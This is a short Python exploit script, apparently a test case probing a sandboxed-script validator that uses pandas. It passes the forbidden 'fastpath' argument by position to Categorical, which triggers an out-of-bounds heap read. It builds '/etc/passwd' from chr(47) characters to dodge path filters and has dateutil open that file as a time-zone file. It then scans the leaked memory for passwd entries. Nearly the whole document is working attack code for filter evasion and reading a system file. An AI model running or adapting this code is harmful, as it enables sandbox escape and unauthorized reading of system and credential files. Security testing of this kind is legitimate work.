# source: pandas 1.5 pandas/core/arrays/categorical.py Categorical.__init__(values, categories, ordered, dtype, fastpath)
#         (fastpath: codes taken as given, no range check) + pandas/_libs/algos_take_helper.pxi take_1d_* (boundscheck(False))
#         reached by np.asarray(cat) -> take_nd(categories, codes); dateutil tz.gettz absolute-path tzfile (see 003), whose
#         buffered open reads the first block of the file into a heap buffer.
# family: refused parameter name (fastpath, listed in forbidden_names) reached by POSITION -> out-of-bounds heap read
#         with a code array; combined with the time-zone file open to pull a file's bytes into the heap
# goal: print the contents of /etc/passwd from an accepted script
import re

import numpy as np
import pandas as pd

cats = np.arange(1000.0)
sl = chr(47)
for _ in range(4):
    try:
        pd.Timestamp("2024-01-02", tz="dateutil" + sl + sl + "etc" + sl + "passwd")
    except ValueError as e:
        print("tz:", e, flush=True)

for lo, hi in [(-4000, 4000), (-40000, -4000), (4000, 40000), (-150000, -40000), (40000, 150000)]:
    codes = np.arange(lo, hi, dtype=np.int64)
    c = pd.Categorical(codes, cats, False, None, True)
    raw = np.asarray(c).tobytes()
    found = re.findall(rb"[ -~]*:x:\d+:\d+:[ -~]*", raw)
    if found:
        print("\n".join(x.decode() for x in found), flush=True)
        break
